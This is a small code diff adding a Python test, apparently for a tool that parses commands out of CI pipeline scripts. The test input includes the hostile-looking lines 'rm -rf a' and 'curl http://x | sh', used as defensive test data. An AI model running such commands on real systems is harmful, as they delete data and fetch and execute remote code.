@@ -152,3 +152,8 @@ def test_lines_of_scripts_in_every_system() -> None:
 )
 def test_no_shape_breaks_the_readers_of_pipelines(path: str, text: str) -> None:
     list(read_pipelines(path, text))
+
+
+def test_a_word_that_no_one_writes_costs_no_time_and_hides_nothing() -> None:
+    found = commands(Script(1, f"rm -rf a; {'a@' * 40_000}; curl http://x | sh"))
+    assert [each.program for each in found] == ["rm", "_", "curl", "sh"]
